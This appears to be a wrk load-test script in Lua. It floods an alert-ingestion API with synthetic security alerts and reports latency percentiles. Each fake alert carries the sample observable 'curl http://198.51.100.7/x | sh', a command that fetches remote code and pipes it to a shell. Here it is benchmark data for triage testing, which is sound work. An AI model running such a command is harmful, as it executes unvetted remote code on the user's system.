-- wrk request generator for scripts/bench-ingest.sh: every request is a new generic alert
-- (unique event id per run, thread and request), so each one is stored and triaged.
local threads = {}
local counter = 0
local key = os.getenv("RIPOSTE_BENCH_KEY") or ""
local run = os.getenv("RIPOSTE_BENCH_RUN") or tostring(os.time())
local severities = {"low", "medium", "informational", "low"}

function setup(thread)
  thread:set("tid", #threads)
  table.insert(threads, thread)
end

function request()
  counter = counter + 1
  local body = string.format(
    '{"title":"bench alert %d","severity":"%s","vendor":"bench","product":"wrk",' ..
    '"event_id":"%s-%d-%d","target":{"hostname":"bench-host-%d","ips":["10.1.%d.%d"]},' ..
    '"observables":{"command_line":"curl http://198.51.100.7/x | sh","username":"svc"}}',
    counter, severities[counter % 4 + 1], run, tid, counter, counter % 250,
    counter % 250, tid)
  return wrk.format("POST", "/api/v1/alerts",
    {["Content-Type"] = "application/json", ["Authorization"] = "Bearer " .. key}, body)
end

function done(summary, latency, requests)
  io.write(string.format(
    "RESULT requests=%d seconds=%.2f rps=%.0f p50_ms=%.2f p90_ms=%.2f p99_ms=%.2f max_ms=%.2f errors_status=%d errors_connect=%d errors_timeout=%d\n",
    summary.requests, summary.duration / 1e6, summary.requests / (summary.duration / 1e6),
    latency:percentile(50) / 1000, latency:percentile(90) / 1000,
    latency:percentile(99) / 1000, latency.max / 1000,
    summary.errors.status, summary.errors.connect, summary.errors.timeout))
end
